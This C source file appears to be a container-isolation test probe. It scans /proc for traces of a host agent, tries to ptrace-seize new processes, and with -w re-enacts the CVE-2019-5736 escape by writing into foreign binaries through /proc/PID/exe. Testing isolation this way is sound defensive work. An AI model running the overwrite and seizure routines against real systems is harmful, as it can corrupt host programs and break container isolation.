/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * spy PROGRAM...: in a container, look at every process that turns up, as fast as can be, until
 * /tmp/stop is there.  What belongs to none of the container's programs is told: "SAW path what".
 * With -w it writes to their programs instead.
 * Seizes each new process once; a seizure of one that has not executed its command yet is told.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int programs;
static char **program;
static unsigned long looks, refused, taken;
static unsigned char seized[1 << 22];

static bool
is_program(const char *exe)
{
	for (int i = 0; i < programs; i++)
		if (strcmp(program[i], exe) == 0)
			return true;
	return strncmp(exe, "/bin/", 5) == 0 || strncmp(exe, "/usr/bin/", 9) == 0;
}

static ssize_t
link_of(const char *pid, const char *what, char *out, size_t size)
{
	char path[64];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%.16s/%s", pid, what);
	looks++;
	n = readlink(path, out, size - 1);
	if (n < 0 && (errno == EACCES || errno == EPERM))
		refused++;
	out[n > 0 ? n : 0] = '\0';
	return n;
}

static void
saw(const char *pid, const char *what, const char *value)
{
	printf("SAW %s/%s %.200s\n", pid, what, value);
	fflush(stdout);
}

/* The descriptors of the agent are sockets to it, its state, and directories of the host. */
static void
look_at_fds(const char *pid, const char *exe)
{
	char path[64], value[4096];
	struct dirent *ent;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%.16s/fd", pid);
	d = opendir(path);
	if (!d) {
		refused += errno == EACCES;
		return;
	}
	while ((ent = readdir(d)) != NULL) {
		char name[40];

		snprintf(name, sizeof(name), "fd/%.20s", ent->d_name);
		/* bash asks nscd(8), by a socket of its own. */
		if (link_of(pid, name, value, sizeof(value)) > 0 &&
		    ((strncmp(value, "socket:", 7) == 0 && !strstr(exe, "/bash")) ||
			strstr(value, "coral") || strncmp(value, "anon_inode:", 11) == 0))
			saw(pid, name, value);
	}
	closedir(d);
}

static void
look_for_word(const char *pid, const char *what, const char *word)
{
	char path[64];
	static char text[1 << 16];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%.16s/%s", pid, what);
	fd = open(path, O_RDONLY);
	if (fd < 0) {
		refused += errno == EACCES;
		return;
	}
	n = read(fd, text, sizeof(text));
	close(fd);
	if (n > 0 && memmem(text, (size_t)n, word, strlen(word)))
		saw(pid, what, word);
}

static void
seize(const char *pid)
{
	pid_t p = (pid_t)atoi(pid);
	char exe[4096];
	int status;

	if (p <= 1 || p == getpid() || (size_t)p >= sizeof(seized) || seized[p])
		return;
	if (ptrace(PTRACE_SEIZE, p, NULL, NULL) < 0) {
		refused += errno == EPERM;
		return;
	}
	seized[p] = 1;
	taken++;
	if (link_of(pid, "exe", exe, sizeof(exe)) > 0 && !is_program(exe))
		saw(pid, "ptrace", exe);
	ptrace(PTRACE_INTERRUPT, p, NULL, NULL);
	if (waitpid(p, &status, __WALL) == p && WIFSTOPPED(status))
		ptrace(PTRACE_DETACH, p, NULL, NULL);
}

static void
look_at(const char *pid)
{
	char exe[4096], value[4096];

	if (link_of(pid, "exe", exe, sizeof(exe)) > 0 && !is_program(exe))
		saw(pid, "exe", exe);
	if (link_of(pid, "root", value, sizeof(value)) > 0 && strcmp(value, "/") != 0)
		saw(pid, "root", value);
	if (link_of(pid, "cwd", value, sizeof(value)) > 0 && strncmp(value, "(unr", 4) == 0)
		saw(pid, "cwd", value);
	look_at_fds(pid, exe);
	look_for_word(pid, "environ", "CORAL_");
	look_for_word(pid, "maps", "coral");
	seize(pid);
}

/* As CVE-2019-5736 did: hold a program by /proc/PID/exe, and write to it when nobody runs it. */
static void
overwrite(const char *pid)
{
	static int held[256];
	static size_t count;
	char exe[4096], path[64];

	snprintf(path, sizeof(path), "/proc/%.16s/exe", pid);
	if (link_of(pid, "exe", exe, sizeof(exe)) > 0 && !is_program(exe)) {
		int fd = open(path, O_PATH);

		if (fd >= 0 && held[count % 256] > 0)
			close(held[count % 256]);
		if (fd >= 0) {
			held[count++ % 256] = fd;
			taken++;
		}
	}
	for (size_t i = 0; i < 256 && i < count; i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		fd = open(path, O_WRONLY);
		if (fd < 0) {
			refused++;
			continue;
		}
		if (write(fd, "overwritten", 11) == 11)
			printf("WROTE %s\n", path);
		close(fd);
	}
}

int
main(int argc, char **argv)
{
	bool writer = argc > 1 && strcmp(argv[1], "-w") == 0;

	programs = argc;
	program = argv;
	printf("spying\n");
	fflush(stdout);
	while (access("/tmp/stop", F_OK) < 0) {
		DIR *d = opendir("/proc");
		struct dirent *ent;

		while (d && (ent = readdir(d)) != NULL)
			/* The container's own first process is not meant. */
			if (ent->d_name[0] > '0' && ent->d_name[0] <= '9' &&
			    atoi(ent->d_name) > 1 && atoi(ent->d_name) != getpid())
				writer ? overwrite(ent->d_name) : look_at(ent->d_name);
		if (d)
			closedir(d);
	}
	printf("looks %lu refused %lu taken %lu\n", looks, refused, taken);
	return 0;
}
